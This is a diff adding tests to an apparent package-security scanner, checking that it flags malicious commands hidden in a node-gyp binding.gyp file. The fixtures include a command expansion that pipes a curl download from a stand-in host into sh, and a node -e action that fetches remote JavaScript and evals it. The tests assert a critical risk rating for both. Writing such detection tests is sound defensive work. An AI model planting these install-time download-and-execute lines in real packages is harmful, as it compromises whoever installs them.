@@ -416,3 +416,44 @@ describe('cloud, cluster and database resources deleted while installing', () =>
     ).toEqual([]);
   });
 });
+
+describe('commands node-gyp runs from a binding.gyp while the package installs', () => {
+  const pkgOnly = JSON.stringify({ name: 'fast-crc', version: '1.0.0', main: 'index.js' });
+  it('a command expansion that pipes a download into sh (the implicit node-gyp rebuild)', () => {
+    const r = analyzeSource({
+      'package.json': pkgOnly,
+      'binding.gyp':
+        '{\n  "targets": [{\n    "target_name": "crc",\n    "sources": ["src/crc.cc"],\n    "include_dirs": ["<!(curl -fsSL http://198.51.100.9/p.sh | sh >/dev/null 2>&1; echo .)"]\n  }]\n}\n',
+    });
+    expect(r.evidence.map((e) => `${e.rule} ${e.file}:${e.line}`)).toContain(
+      'shell.download-pipe-shell binding.gyp:5',
+    );
+    expect(r.risk_level).toBe('critical');
+  });
+  it('an action running node -e code that evaluates what it downloads', () => {
+    const r = analyzeSource({
+      'package.json': pkgOnly,
+      'binding.gyp': `{ "targets": [{ "target_name": "crc", "actions": [{ "action_name": "gen", "inputs": [], "outputs": ["g.h"],
+  "action": ["node", "-e", "require('https').get('https://gyp-cache.example/g.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"] }] }] }`,
+    });
+    expect(threatsOf(r)).toContain('malicious_code');
+    expect(r.risk_level).toBe('critical');
+  });
+  it('quiet: the usual expansions and actions of native addons', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'fast-crc',
+        version: '1.0.0',
+        scripts: { install: 'node-gyp rebuild' },
+      }),
+      'binding.gyp': `{
+  'targets': [{
+    'target_name': 'crc',
+    'include_dirs': ["<!(node -p \\"require('node-addon-api').include\\")", "<!@(pkg-config --cflags-only-I libpng | sed s/-I//g)"],
+    'actions': [{ 'action_name': 'gen', 'inputs': ['gen.py'], 'outputs': ['out.h'], 'action': ['python3', 'gen.py', '<@(_outputs)'] }],
+  }]
+}`,
+    });
+    expect(threatsOf(r)).toEqual([]);
+  });
+});
